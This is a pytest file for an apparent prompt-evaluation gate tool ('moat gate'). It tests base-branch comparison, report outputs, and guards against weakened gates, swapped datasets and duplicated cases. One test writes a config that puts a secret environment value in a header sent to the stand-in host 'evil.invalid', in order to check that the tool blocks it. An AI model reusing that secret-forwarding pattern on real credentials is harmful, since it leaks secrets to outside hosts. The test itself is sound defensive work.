"""`moat gate` on real repositories: what changed, against where the branch began."""

import json
import shutil
from pathlib import Path
from xml.etree import ElementTree

import pytest

from tests.bootstrap.projects import Project
from tests.cli.test_lint_outputs import check_sarif
from tests.evals.gating.repositories import BETTER, PROMPT, commit, git, worse


def test_nothing_changed(branch: Project) -> None:
    done = branch.run("gate", "--base", "main")
    assert done.code == 0
    assert "Nothing changed that a suite evaluates." in done.out


def test_what_means_the_same_is_not_evaluated(branch: Project) -> None:
    branch.replace("evals/smoke.yaml", {"timeout: 30": "timeout:   30  # seconds"})
    with (branch.root / BETTER).open("a", encoding="utf-8") as file:
        file.write("\n# a comment\n")
    shutil.move(branch.root / "evals/datasets/smoke.jsonl", branch.root / "evals/datasets/six.jsonl")
    branch.replace("evals/smoke.yaml", {"datasets/smoke.jsonl": "datasets/six.jsonl"})
    commit(branch.root)
    found = branch.ok("gate", "--base", "main", "--json").json
    assert (found["changes"], found["evaluated"], found["verdict"]) == ([], [], "pass")


def test_a_worse_version_is_blocked_and_said_everywhere(branch: Project, monkeypatch, tmp_path: Path) -> None:
    worse(branch)
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    done = branch.run("gate", "--base", "main", "--out", str(branch.root / "out"), "--min-facts", "0.75")
    assert done.code == 1
    assert done.out.startswith("REGRESSED")
    assert f"::error file={PROMPT}/1.3.0.yaml,line=1,title=moat%3A gate-regressed::" in done.out
    comment = (branch.root / "out/report.md").read_text("utf-8")
    assert comment.splitlines()[:2] == ["<!-- moat gate: project -->", "## ❌ regressed"]
    assert (tmp_path / "summary.md").read_text("utf-8") == comment
    assert "Return shipping costs 4.95 EUR" in comment
    assert len(comment) < 65_000
    outcome = json.loads((branch.root / "out/outcome.json").read_bytes())
    verdicts = {each["pair"]["suite"]: each["report"]["verdict"] for each in outcome["evaluated"]}
    assert (outcome["verdict"], verdicts) == ("regressed", {"smoke": "pass", "support": "regressed"})
    assert outcome["evaluated"][0]["report"]["comparison"]["baseline"]["version"] == "1.2.0"
    log = json.loads((branch.root / "out/findings.sarif").read_bytes())
    check_sarif(log)
    assert {result["ruleId"] for result in log["runs"][0]["results"]} >= {"gate-regressed"}
    pages = sorted(path.name.partition("-")[0] for path in (branch.root / "out").glob("*.html"))
    assert pages == ["smoke", "support"]
    junit = ElementTree.parse(branch.root / "out/junit.xml").getroot()
    assert int(junit.get("failures", "0")) == len(junit.findall(".//failure")) >= 1
    again = json.loads(branch.run("gate", "--base", "main", "--json").out)
    assert [len(each["reused"]) for each in again["evaluated"]] == [2, 2], "nothing is asked twice"


def test_the_files_can_be_written_one_by_one(branch: Project) -> None:
    names = {"--markdown": "a/report.md", "--junit": "b/junit.xml", "--sarif": "c.sarif"}
    options = [word for option, name in names.items() for word in (option, str(branch.root / name))]
    branch.ok("gate", "--base", "main", "--no-github", *options)
    assert all((branch.root / name).stat().st_size for name in names.values())
    (branch.root / "file").touch()
    done = branch.run("gate", "--base", "main", "--junit", str(branch.root / "file" / "x"))
    assert (done.code, "cannot be written" in done.err) == (74, True)


def test_the_base_is_where_the_branch_began_and_not_where_main_is_now(branch: Project) -> None:
    git(branch.root, "checkout", "--quiet", "main")
    worse(branch, "1.4.0")
    commit(branch.root, "main went on")
    git(branch.root, "checkout", "--quiet", "topic")
    assert branch.ok("gate", "--base", "main", "--json").json["changes"] == []


def test_a_partial_changes_every_version_and_the_newest_is_judged(branch: Project) -> None:
    branch.replace("prompts/_partials/tone.j2", {"\n": "\nBe brief.\n"})
    found = branch.run("gate", "--base", "main", "--suite", "smoke", "--json").json
    assert [each["pair"]["version"] for each in found["evaluated"]] == ["1.2.0"]
    assert found["evaluated"][0]["pair"]["reasons"] == ["support/answer@1.2.0 is changed"]
    assert any("1.1.0 changed too" in note for note in found["notes"])


def test_another_model_behind_the_alias_is_compared_with_the_one_before(branch: Project) -> None:
    branch.replace(
        "moat.yaml", {"use: [simulated/support-large, simulated/support-small]": "use: [simulated/support-small]"}
    )
    found = branch.run("gate", "--base", "main", "--suite", "support", "--json").json
    (each,) = found["evaluated"]
    runs = each["report"]["comparison"]
    assert each["pair"]["reasons"] == ["the model assistant changed"]
    assert runs["baseline"]["deployments"] == ["simulated/support-large", "simulated/support-small"]
    assert runs["candidate"]["deployments"] == ["simulated/support-small"]
    assert not runs["identical"]


def test_other_rules_of_the_same_model_are_asked_anew(branch: Project) -> None:
    branch.run("gate", "support/answer@1.2.0", "--suite", "support")
    path = branch.root / "simulation/support.yaml"
    path.write_text(path.read_text("utf-8").replace("4.95", "5.95"), "utf-8")
    found = branch.run("gate", "--base", "main", "--suite", "support", "--json").json
    (each,) = found["evaluated"]
    runs = each["report"]["comparison"]
    assert runs["candidate"]["id"] not in each["reused"]
    assert runs["baseline"]["behind"] != runs["candidate"]["behind"]
    facts = next(s for s in each["report"]["comparison"]["scores"] if s["name"] == "facts")
    assert facts["worse"] >= 1


def test_a_changed_gate_needs_no_new_answers(branch: Project) -> None:
    branch.run("gate", "support/answer@1.2.0", "--suite", "smoke")
    branch.replace("evals/smoke.yaml", {"{score: facts, min: 1.0}": "{score: facts, min: 0.9}"})
    done = branch.run("gate", "--base", "main", "--json")
    (each,) = done.json["evaluated"]
    assert each["pair"]["reasons"] == ["the gates of smoke changed"]
    assert len(set(each["reused"])) == 1


def test_lint_comes_first_and_costs_nothing(branch: Project) -> None:
    branch.replace(BETTER, {"model: assistant": "model: asistant"})
    done = branch.run("gate", "--base", "main", "--github")
    assert done.code == 1
    assert "The files have errors; nothing was evaluated." in done.out
    assert f"::error file={BETTER}" in done.out
    assert "unknown-model" in done.out


def test_what_cannot_be_evaluated_is_not_decided(branch: Project) -> None:
    worse(branch)
    simulated = "  simulated: {kind: simulated, rules: simulation/support.yaml}"
    branch.replace("moat.yaml", {simulated: '  simulated: {kind: openai, api_key: "${NO_SUCH_KEY}"}'})
    done = branch.run("gate", "--base", "main", "--suite", "smoke", "--json")
    assert (done.code, done.json["verdict"]) == (2, "inconclusive")
    assert "NO_SUCH_KEY" in done.json["failures"][0]


def test_cost_is_a_demand_of_its_own(branch: Project) -> None:
    text = (branch.root / BETTER).read_text("utf-8")
    padded = text.replace(
        "messages:\n  - role: system\n    content: |\n",
        "messages:\n  - role: system\n    content: |\n"
        + "      Keep in mind what the shop is for, and whom it serves.\n" * 80,
    )
    padded = padded.replace("token_budget: 1800", "token_budget: 9000")
    assert padded != text
    (branch.root / f"{PROMPT}/1.3.0.yaml").write_text(padded, "utf-8")
    found = branch.run("gate", "--base", "main", "--suite", "smoke", "--max-cost-increase", "10", "--json")
    assert found.code == 1
    (cost,) = found.json["costs"]
    assert (cost["verdict"], cost["limit_percent"]) == ("regressed", 10.0)
    assert found.json["evaluated"][0]["report"]["verdict"] == "pass"
    done = branch.run("gate", "--base", "main", "--suite", "smoke", "--max-cost-increase", "10", "--github")
    assert "cost-increase" in done.out
    assert branch.run("gate", "--base", "main", "--suite", "smoke", "--max-cost-increase", "10000").code == 0


@pytest.mark.parametrize(
    ("options", "code", "said"),
    [
        (["--min-fcts", "0.9"], 65, "Did you mean --min-facts?"),
        (["--min-facts", "80"], 65, "Write it as 0.8."),
        (["--min-facts", "much"], 64, "'much' is no number"),
        (["--min-facts"], 64, "is no number"),
        (["--suite", "nope"], 66, "there is no suite 'nope'"),
        (["--base", "no-such-branch"], 66, "fetch-depth: 0"),
        (["--max-cost-increase", "x"], 65, "is not a percentage"),
        (["support/answer@1.2.0", "--all"], 65, "judged by itself"),
        (["--baseline", "1.0.0"], 65, "Name a version"),
    ],
)
def test_wishes_that_make_no_sense(branch: Project, options: list[str], code: int, said: str) -> None:
    done = branch.run("gate", *options)
    assert (done.code, said in done.err) == (code, True), done


def test_a_shallow_clone_is_told_how_to_see_more(branch: Project, tmp_path: Path) -> None:
    worse(branch)
    commit(branch.root)
    git(tmp_path, "clone", "--quiet", "--depth=1", "--no-single-branch", f"file://{branch.root}", "clone")
    done = Project(tmp_path / "clone", branch.capture).run("gate", "--base", "origin/main")
    assert (done.code, "fetch-depth: 0" in done.err) == (75, True), done


def test_without_git_everything_is_judged_against_nothing(branch: Project) -> None:
    shutil.rmtree(branch.root / ".git")
    found = branch.run("gate", "--suite", "smoke", "--json").json
    assert (found["base"], len(found["evaluated"])) == ("", 1)
    assert found["evaluated"][0]["report"]["comparison"].get("baseline") is None


def test_the_ci_says_what_it_will_be_merged_to(branch: Project, monkeypatch) -> None:
    git(branch.root, "update-ref", "refs/remotes/origin/release", "main")
    monkeypatch.setenv("GITHUB_BASE_REF", "release")
    assert branch.ok("gate", "--json").json["base_name"] == "origin/release"
    assert branch.run("gate", "--base", "0" * 40, "--suite", "smoke", "--json").json["base"] == ""


def test_a_project_below_the_top_of_its_repository(branch: Project, tmp_path: Path) -> None:
    top = tmp_path / "mono"
    shutil.copytree(branch.root, top / "apps/bot", ignore=shutil.ignore_patterns(".git", ".moat"))
    git(top, "init", "--quiet", "--initial-branch=main")
    (top / ".gitignore").write_text(".moat/\n")
    commit(top)
    git(top, "checkout", "--quiet", "-b", "topic")
    bot = Project(top / "apps/bot", branch.capture)
    (top / "README").write_text("another project's change")
    assert bot.ok("gate", "--base", "main", "--json").json["changes"] == []
    worse(bot)
    done = bot.run("gate", "--base", "main", "--github", "--markdown", str(tmp_path / "r.md"))
    assert f"::error file=apps/bot/{PROMPT}/1.3.0.yaml" in done.out
    assert (tmp_path / "r.md").read_text("utf-8").startswith("<!-- moat gate: apps/bot -->\n")


def test_a_base_without_the_project_makes_everything_new(branch: Project, tmp_path: Path) -> None:
    top = tmp_path / "young"
    top.mkdir()
    git(top, "init", "--quiet", "--initial-branch=main")
    (top / "README").write_text("nothing yet")
    commit(top)
    git(top, "checkout", "--quiet", "-b", "topic")
    shutil.copytree(branch.root, top, ignore=shutil.ignore_patterns(".git", ".moat"), dirs_exist_ok=True)
    found = Project(top, branch.capture).run("gate", "--base", "main", "--suite", "smoke", "--json").json
    assert found["notes"][0] == "main does not have this project: everything is new."
    assert len(found["evaluated"]) == 1


def test_an_edited_dataset_needs_a_version_and_a_reason(branch: Project) -> None:
    branch.ok("dataset", "lock", "evals/datasets/smoke.jsonl", "--reason", "first")
    commit(branch.root)
    git(branch.root, "branch", "--force", "base")
    path = branch.root / "evals/datasets/smoke.jsonl"
    path.write_text("\n".join(path.read_text("utf-8").splitlines()[:-1]) + "\n", "utf-8")
    done = branch.run("gate", "--base", "base")
    assert (done.code, "edited-dataset" in done.out) == (1, True), done
    branch.ok("dataset", "lock", "evals/datasets/smoke.jsonl", "--reason", "the last case was wrong")
    found = branch.run("gate", "--base", "base", "--json").json
    assert [each["pair"]["reasons"] for each in found["evaluated"]] == [["the dataset of smoke changed"]]


def test_held_out_cases_are_opened_for_releases_only(branch: Project) -> None:
    path = branch.root / "evals/datasets/smoke.jsonl"
    lines = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    path.write_text("\n".join(json.dumps({**case, "split": "held-out"}) for case in lines), "utf-8")
    branch.replace("evals/smoke.yaml", {"repeats: 1": "repeats: 1\nsplit: held-out"})
    found = branch.run("gate", "--base", "main", "--suite", "smoke", "--json").json
    assert found["evaluated"] == []
    assert "--release" in found["failures"][0], "it was open at the base"
    found = branch.run("gate", "--base", "main", "--suite", "smoke", "--release", "--json").json
    assert found["evaluated"][0]["report"]["comparison"]["candidate"]["split"] == "held-out"
    commit(branch.root)
    git(branch.root, "branch", "--force", "base")
    worse(branch)
    found = branch.run("gate", "--base", "base", "--suite", "smoke", "--json").json
    assert any("--release" in note for note in found["notes"])
    assert found["failures"] == []


def test_everything_is_judged_against_what_an_environment_serves(branch: Project) -> None:
    branch.release("1.1.0", "staging")
    found = branch.run("gate", "--all", "--env", "staging", "--suite", "smoke", "--json").json
    assert found["evaluated"][0]["report"]["comparison"]["baseline"]["version"] == "1.1.0"
    found = branch.run("gate", "--all", "--suite", "smoke", "--json").json
    assert found["evaluated"][0]["report"]["comparison"]["baseline"]["version"] == "1.1.0", "the one before"


def test_one_version_takes_thresholds_too(branch: Project) -> None:
    done = branch.run(
        "gate", "support/answer@1.0.0", "--suite", "smoke", "--min-facts", "0.5", "--max-cost-increase", "5", "--json"
    )
    assert [gate["gate"]["min"] for gate in done.json[0]["gates"]] == [1.0, 1.0, 0.5]
    done = branch.run(
        "gate",
        "support/answer@1.2.0",
        "--baseline",
        "support/answer@1.0.0",
        "--suite",
        "support",
        "--max-cost-increase",
        "1",
    )
    assert done.code == 1
    assert "a request of" in done.out


def test_a_function_is_compared_with_its_run_at_the_base(branch: Project) -> None:
    (branch.root / "app").mkdir()
    bot = branch.root / "app/bot.py"
    bot.write_text("def answer(case):\n    return 'yes'\n")
    lines = [json.dumps({"id": f"c{i}", "variables": {"input": "?"}, "expected": "yes"}) for i in range(80)]
    (branch.root / "evals/datasets/bot.jsonl").write_text("\n".join(lines))
    (branch.root / "evals/bot.yaml").write_text(
        "target: {kind: function, path: app/bot.py:answer}\ndataset: datasets/bot.jsonl\n"
        "scorers: [{kind: equals}]\ngates: [{score: equals, margin: 0.1}]\n"
    )
    commit(branch.root)
    git(branch.root, "branch", "--force", "base")
    (first,) = branch.ok("gate", "--base", "main", "--json").json["evaluated"]
    assert first["report"]["comparison"].get("baseline") is None
    bot.write_text("def answer(case):\n    return 'no'\n")
    for _ in range(2):
        done = branch.run("gate", "--base", "base", "--json")
        (each,) = done.json["evaluated"]
        assert (done.code, each["pair"]["reasons"]) == (1, ["the target of bot changed"])
        runs = each["report"]["comparison"]
        assert runs["baseline"]["id"] == first["report"]["comparison"]["candidate"]["id"]
        assert runs["candidate"]["commit"] == f"{runs['baseline']['commit']}+"
    said = branch.run("gate", "--base", "base").out
    commit_id = runs["baseline"]["commit"][:12]
    assert f"bot: app/bot.py:answer against app/bot.py:answer at {commit_id}. " in said


def test_a_locked_dataset_is_not_swapped_for_an_unlocked_one(branch: Project) -> None:
    branch.ok("dataset", "lock", "evals/datasets/smoke.jsonl", "--reason", "first")
    commit(branch.root)
    git(branch.root, "branch", "--force", "base")
    data = branch.root / "evals/datasets"
    (data / "easy.jsonl").write_text((data / "smoke.jsonl").read_text("utf-8").splitlines()[0] + "\n", "utf-8")
    branch.replace("evals/smoke.yaml", {"datasets/smoke.jsonl": "datasets/easy.jsonl"})
    done = branch.run("gate", "--base", "base", "--suite", "smoke")
    assert (done.code, "edited-dataset" in done.out) == (1, True), done
    branch.ok("dataset", "lock", "evals/datasets/easy.jsonl", "--reason", "one is enough")
    found = branch.run("gate", "--base", "base", "--suite", "smoke", "--json").json
    assert [each["pair"]["reasons"] for each in found["evaluated"]] == [["the dataset of smoke changed"]]
    said = "dataset changed from evals/datasets/smoke.jsonl to evals/datasets/easy.jsonl"
    assert found["weakened"] == [f"smoke: {said}, and no `replaces` says why"]
    assert found["verdict"] in ("regressed", "inconclusive")
    why = "dataset: datasets/easy.jsonl\nreplaces: {dataset: datasets/smoke.jsonl, reason: one is enough}\n"
    branch.replace("evals/smoke.yaml", {"dataset: datasets/easy.jsonl\n": why})
    found = branch.run("gate", "--base", "base", "--suite", "smoke", "--json").json
    assert not found.get("weakened")


def test_cases_are_not_asked_twice_to_look_like_more_evidence(branch: Project) -> None:
    path = branch.root / "evals/datasets/smoke.jsonl"
    cases = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    copies = [{**case, "id": f"{case['id']}-{n}"} for n in range(3) for case in cases]
    path.write_text("".join(json.dumps(case) + "\n" for case in [*cases, *copies]), "utf-8")
    done = branch.run("gate", "--base", "main", "--suite", "smoke")
    assert (done.code, "duplicate-cases" in done.out) == (1, True), done


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (None, "the suite smoke is gone, which evaluates support/answer"),
        ({"{score: facts, min: 1.0}": "{score: facts, min: 0.9}"}, "smoke: the min of facts was 1 and is 0.9"),
    ],
)
def test_a_change_that_demands_less_is_for_people_to_decide(branch: Project, edit, said: str) -> None:
    if edit is None:
        (branch.root / "evals/smoke.yaml").unlink()
    else:
        branch.replace("evals/smoke.yaml", edit)
    done = branch.run("gate", "--base", "main", "--json")
    assert (done.code, done.json["verdict"], done.json["weakened"]) == (2, "inconclusive", [said]), done
    shown = branch.run("gate", "--base", "main", "--markdown", str(branch.root / "report.md"))
    assert "to be decided by people" in shown.out
    assert "To be decided by people" in (branch.root / "report.md").read_text("utf-8")


def test_a_changed_suite_sends_no_secret_where_the_base_does_not(branch: Project, monkeypatch) -> None:
    monkeypatch.setenv("SOME_SECRET", "k-secret")
    (branch.root / "evals/bot.yaml").write_text(
        "target: {kind: http, url: 'https://evil.invalid/x', headers: {authorization: \"${SOME_SECRET}\"}}\n"
        "dataset: datasets/smoke.jsonl\nscorers: [{kind: contains, expected: labels.facts}]\n"
    )
    done = branch.run("gate", "--base", "main", "--json")
    assert (done.code, done.json["verdict"]) == (2, "inconclusive")
    assert "SOME_SECRET is not sent to https://evil.invalid: nothing at the merge base" in done.json["failures"][0]
    commit(branch.root)
    git(branch.root, "branch", "--force", "base")
    branch.replace("evals/bot.yaml", {"evil.invalid/x": "evil.invalid/y"})
    done = branch.run("gate", "--base", "base", "--json")
    assert "is not sent" not in done.json["failures"][0], "the base sends it there"


def test_red_team_is_asked_whatever_changed(branch: Project) -> None:
    branch.replace("moat.yaml", {"environments:\n": "gate: {red_team: [smoke]}\n\nenvironments:\n"})
    commit(branch.root)
    git(branch.root, "branch", "--force", "base")
    found = branch.ok("gate", "--base", "base", "--json").json
    (each,) = found["evaluated"]
    assert (found["changes"], each["pair"]["suite"], each["report"]["verdict"]) == ([], "smoke", "pass")
    assert each["pair"]["reasons"] == ["red team: every change is judged by it"]
    branch.replace("moat.yaml", {"red_team: [smoke]": "red_team: [smok]"})
    done = branch.run("lint")
    assert (done.code, "the gate's red team is the suite 'smok', which there is not" in done.out) == (1, True), done


def test_a_suite_that_asks_what_another_asks_has_runs_and_verdicts_of_its_own(branch: Project) -> None:
    root = branch.root
    (root / "evals/smoke.yaml").unlink()
    text = (root / "evals/support.yaml").read_text("utf-8")
    (root / "evals/weak.yaml").write_text(text[: text.index("gates:")] + "gates: [{score: facts, min: 0.1}]\n")
    verdicts = {}
    for version, code in (("1.0.0", 0), ("1.1.0", 1), ("1.2.0", 0)):
        done = branch.run("gate", f"support/answer@{version}", "--json")
        assert done.code == code, done
        for report in done.json:
            run, baseline = report["comparison"]["candidate"], report["comparison"]["baseline"]
            verdicts[version, run["suite"]] = (report["verdict"], (baseline or {}).get("version"))
    assert verdicts == {
        ("1.0.0", "support"): ("pass", None),
        ("1.0.0", "weak"): ("pass", None),
        ("1.1.0", "support"): ("regressed", "1.0.0"),
        ("1.1.0", "weak"): ("pass", "1.0.0"),
        ("1.2.0", "support"): ("pass", "1.0.0"),
        ("1.2.0", "weak"): ("pass", "1.0.0"),
    }
    assert {run["suite"] for run in branch.ok("eval", "list", "--suite", "weak", "--json").json} == {"weak"}
